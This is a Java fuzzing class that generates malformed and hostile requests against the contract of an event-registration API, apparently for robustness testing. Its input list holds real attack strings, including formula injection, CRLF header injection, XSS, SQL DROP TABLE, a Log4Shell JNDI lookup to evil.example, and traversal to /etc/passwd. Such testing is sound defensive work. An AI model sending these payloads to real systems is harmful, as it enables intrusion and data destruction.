package nl.klankbord.functions;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import nl.klankbord.json.Json;
import nl.klankbord.json.Json.JsonArray;
import nl.klankbord.json.Json.JsonBoolean;
import nl.klankbord.json.Json.JsonNumber;
import nl.klankbord.json.Json.JsonObject;
import nl.klankbord.json.Json.JsonText;
import nl.klankbord.json.JsonWriter;
import nl.klankbord.memory.Examples;
import nl.klankbord.site.WebhookSignature;

/// Makes requests out of the contract's own examples and parameters, right and wrong ones, and forms like those of the
/// pages. The same seed makes the same requests.
final class Fuzz {

    private static final JsonObject CONTRACT =
            Examples.json(new String(ReadContractFunction.contract(), StandardCharsets.UTF_8));

    /// What somebody may type who wants to know what happens, or who means harm: design §8.
    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "\u0000",
            "\u200B",
            "\u00A0",
            "\u3164",
            "\uD800",
            "\r\nBcc: all@example.nl",
            "\u0085",
            "\u2028",
            "=cmd|' /C calc'!A0",
            "+31 30 123 45 67",
            "@SUM(A1)",
            "\t=1+1",
            "＝1+1",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE klankbord; --",
            "${jndi:ldap://evil.example}",
            "{{7*7}}",
            "../../etc/passwd",
            "%00",
            "%2e%2e%2f",
            "null",
            "true",
            "3",
            "NaN",
            "1e1000000000",
            "é".repeat(300),
            "a".repeat(5_000),
            "👩‍👩‍👧‍👦".repeat(50),
            "a@b.nl",
            "\"quoted\"@example.nl",
            "x@" + "a".repeat(250) + ".nl",
            "utrecht",
            "2027-02-30",
            "2027-04-24T12:00:00+02:00");

    private static final List<Json> VALUES = List.of(
            Json.NULL,
            Json.EMPTY,
            Json.array(List.of()),
            Json.of(true),
            Json.of(false),
            Json.of(0),
            Json.of(-1),
            Json.of(Long.MAX_VALUE),
            new JsonNumber(new java.math.BigDecimal("1e400")),
            new JsonNumber(new java.math.BigDecimal("0.1")),
            Json.array(List.of(Json.array(List.of(Json.array(List.of()))))),
            Json.object().put("a", Json.EMPTY).build());

    private static final List<String> MEDIA_TYPES = List.of(
            "application/json",
            "application/json; charset=utf-8",
            "application/json; charset=utf-16",
            "application/problem+json",
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "");

    private final Random random;
    private final Map<String, String> known;
    private final byte[] key;
    private final List<Operation> operations = new ArrayList<>();

    private record Operation(String method, String path, JsonObject json) {}

    /// @param known values of path parameters that lead somewhere
    /// @param key that the site `vng` signs with
    Fuzz(long seed, Map<String, String> known, byte[] key) {
        this.random = new Random(seed);
        this.known = known;
        this.key = key.clone();
        CONTRACT.object("paths")
                .members()
                .forEach((path, item) -> ((JsonObject) item).members().forEach((method, operation) -> {
                    if (!method.equals("parameters")) {
                        operations.add(
                                new Operation(method.toUpperCase(Locale.ROOT), "/v1" + path, (JsonObject) operation));
                    }
                }));
    }

    Call next() {
        return random.nextInt(5) == 0 ? form() : api(any(operations));
    }

    private Call api(Operation operation) {
        String path = operation.path();
        for (Map.Entry<String, String> parameter : known.entrySet()) {
            path = path.replace("{" + parameter.getKey() + "}", segment(parameter.getValue()));
        }
        path = rarely() ? path + any(List.of("/", "//", "/x", ".json", ";a=b")) : path;
        Call call =
                Call.of(rarely() ? any(List.of("GET", "PUT", "POST", "DELETE", "PATCH")) : operation.method(), path);
        for (Json each : list(operation.json().get("parameters"))) {
            call = withParameter(call, (JsonObject) each);
        }
        call = withHeaders(call);
        if (operation.json().get("requestBody") instanceof JsonObject body) {
            call = withBody(
                    call, body.object("content").object("application/json").object("example"));
        }
        if (operation.path().endsWith("/submissions")) {
            call = signed(call);
        }
        return often() ? call.byOrganiser() : call;
    }

    private String segment(String right) {
        return rarely() ? any(List.of("nergens", "%00", "..", "a".repeat(300), "é", "<b>", "UTRECHT", "a b")) : right;
    }

    private Call withParameter(Call call, JsonObject parameter) {
        if (random.nextBoolean()) {
            return call;
        }
        String name = parameter.text("name");
        String example = parameter.object("schema").text("example");
        String value = often() && !example.isEmpty() ? example : any(TEXTS);
        return switch (parameter.text("in")) {
            case "query" -> call.asking(name, value);
            case "header" -> call.with(name.toLowerCase(Locale.ROOT), oneLine(value));
            default -> call;
        };
    }

    private Call withHeaders(Call call) {
        Call with = call;
        if (random.nextInt(4) == 0) {
            with = with.with("origin", any(List.of(SiteExamples.ORIGIN, "https://evil.example", "null", "")));
        }
        if (random.nextInt(4) == 0) {
            with = with.with(
                    "idempotency-key", any(List.of("a-key-of-their-own", "short", "\"a-key-in-quotes-01\"", "é")));
        }
        if (random.nextInt(6) == 0) {
            with = with.with(
                    "accept",
                    any(List.of("text/csv", "text/html", "image/png", "*/*;q=0", "application/json", ",,;;q=x")));
        }
        if (random.nextInt(6) == 0) {
            with = with.with("accept-language", any(List.of("nl", "en;q=0.1", "*", "x".repeat(500), ";q=")));
        }
        if (random.nextInt(8) == 0) {
            with = with.with("x-forwarded-for", any(List.of("192.0.2.1", "::1, 10.0.0.1", "x")));
        }
        if (rarely()) {
            with = with.with("content-encoding", any(List.of("gzip", "identity", "br")));
        }
        return with;
    }

    private Call withBody(Call call, JsonObject example) {
        Json body = example;
        for (int changes = random.nextInt(4); changes > 0; changes--) {
            body = changed(body);
        }
        // A person each time, else nearly all would be known.
        String text = JsonWriter.text(body instanceof JsonObject object ? object : Json.EMPTY)
                .replace("fatma@voorbeeld.example", "p" + random.nextInt(100_000) + "@voorbeeld.example");
        byte[] bytes = rarely() ? broken(text) : text.getBytes(StandardCharsets.UTF_8);
        Call with = call.with("content-type", rarely() ? any(MEDIA_TYPES) : "application/json");
        return switch (random.nextInt(20)) {
            case 0 -> with.base64("=not base64=");
            case 1 -> with.body("");
            case 2, 3, 4, 5, 6, 7 -> with.body(new String(bytes, StandardCharsets.UTF_8));
            default -> with.bytes(bytes);
        };
    }

    private Json changed(Json json) {
        if (random.nextInt(6) == 0) {
            return random.nextBoolean() ? any(VALUES) : Json.of(any(TEXTS));
        }
        return switch (json) {
            case JsonObject object when !object.members().isEmpty() -> changedMember(object);
            case JsonArray(List<Json> items)
            when !items.isEmpty() -> {
                List<Json> more = new ArrayList<>(items);
                int at = random.nextInt(items.size());
                switch (random.nextInt(3)) {
                    case 0 -> more.remove(at);
                    case 1 -> more.add(items.get(at));
                    default -> more.set(at, changed(items.get(at)));
                }
                yield Json.array(more);
            }
            case JsonText _ -> Json.of(any(TEXTS));
            case JsonBoolean(boolean value) -> Json.of(!value);
            default -> any(VALUES);
        };
    }

    private JsonObject changedMember(JsonObject object) {
        Map<String, Json> members = new LinkedHashMap<>(object.members());
        String name = any(List.copyOf(members.keySet()));
        switch (random.nextInt(4)) {
            case 0 -> members.remove(name);
            case 1 -> members.put(any(List.of("surprise", "__proto__", "", "id", "é", "status")), any(VALUES));
            default -> members.computeIfPresent(name, (_, value) -> changed(value));
        }
        return new JsonObject(members);
    }

    private byte[] broken(String text) {
        byte[] utf8 = text.getBytes(StandardCharsets.UTF_8);
        return switch (random.nextInt(8)) {
            case 0 -> (text + text).getBytes(StandardCharsets.UTF_8);
            case 1 -> text.substring(0, text.length() / 2).getBytes(StandardCharsets.UTF_8);
            case 2 -> text.replaceFirst("\\{", "{\"name\":\"X\",").getBytes(StandardCharsets.UTF_8);
            case 3 -> text.replaceFirst("\"[a-z]", "\"\\\\ud800").getBytes(StandardCharsets.UTF_8);
            case 4 -> ("[".repeat(20_000) + "]".repeat(20_000)).getBytes(StandardCharsets.UTF_8);
            case 5 -> text.getBytes(StandardCharsets.UTF_16);
            case 6 -> text.replaceFirst(":\"[^\"]*\"", ":1e1000000000").getBytes(StandardCharsets.UTF_8);
            default -> {
                if (utf8.length > 0) {
                    utf8[random.nextInt(utf8.length)] = (byte) random.nextInt(256);
                }
                yield utf8;
            }
        };
    }

    /// Mostly by the right site, so that what is in the batch is looked at.
    private Call signed(Call call) {
        String id = "batch-" + random.nextInt(50);
        String timestamp = String.valueOf(Examples.NOW.getEpochSecond() + (rarely() ? 1_000 : random.nextInt(300)));
        byte[] body = bytes(call);
        return call.with("site", rarely() ? "ipo" : "vng")
                .with("webhook-id", id)
                .with("webhook-timestamp", timestamp)
                .with(
                        "webhook-signature",
                        rarely() ? oneLine(any(TEXTS)) : WebhookSignature.of(key, id, timestamp, body));
    }

    private static byte[] bytes(Call call) {
        try {
            return call.isBase64()
                    ? Base64.getDecoder().decode(call.body())
                    : call.body().getBytes(StandardCharsets.UTF_8);
        } catch (IllegalArgumentException e) {
            return new byte[0];
        }
    }

    /// As a browser sends it, or not quite.
    private Call form() {
        boolean isRsvp = random.nextBoolean();
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("name", "Noor Visser");
        fields.put("email", "f" + random.nextInt(100_000) + "@voorbeeld.example");
        fields.put("organisation", "Gemeente Ede");
        fields.put("organisationType", "municipality");
        if (isRsvp) {
            fields.put("attending", "true");
            fields.put("moments", "lunch");
            fields.put("diet", "halal");
            fields.put("dietConsent", "true");
            fields.put("access", "Een lift");
            fields.put("accessConsent", "true");
            fields.put("answers.reis", "fiets");
            fields.put("answers.collegas", "12");
            fields.put("answers.ervaring", "peiling");
            fields.put("guests.0.name", "Jan");
            fields.put("guests.0.moments", "drinks");
        } else {
            fields.put("theme", "Loten");
            fields.put("text", "Hoe?");
            fields.put("intent", "present");
        }
        for (int changes = random.nextInt(4); changes > 0; changes--) {
            String name = often()
                    ? any(List.copyOf(fields.keySet()))
                    : any(List.of(
                            "siteToken",
                            "submission",
                            "guests.1.diet",
                            "guests.1.moments",
                            "guests.99.name",
                            "guestRows",
                            "answers.eerder",
                            "answers.weg",
                            "themeId",
                            "lang",
                            "",
                            "surprise"));
            fields.put(name, any(TEXTS));
        }
        String path = "/m/" + segment("utrecht") + (isRsvp ? "/rsvps" : "/topics");
        Call call = Call.form(path, fields);
        if (rarely()) {
            call = Call.form(path, any(List.of("%zz", "a&a&a", "=", "&&&", "name=%C3%28", "é=1", "a=1&".repeat(300))));
        }
        if (rarely()) {
            call = call.with("content-type", any(MEDIA_TYPES));
        }
        return withHeaders(call);
    }

    /// A gateway hands on no header of more lines, or with what is no text.
    private static String oneLine(String text) {
        return text.replaceAll("[^ -~]", "?");
    }

    private boolean rarely() {
        return random.nextInt(12) == 0;
    }

    private boolean often() {
        return random.nextInt(4) != 0;
    }

    private <T> T any(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static List<Json> list(@org.jspecify.annotations.Nullable Json json) {
        return json instanceof JsonArray(List<Json> items) ? items : List.of();
    }
}
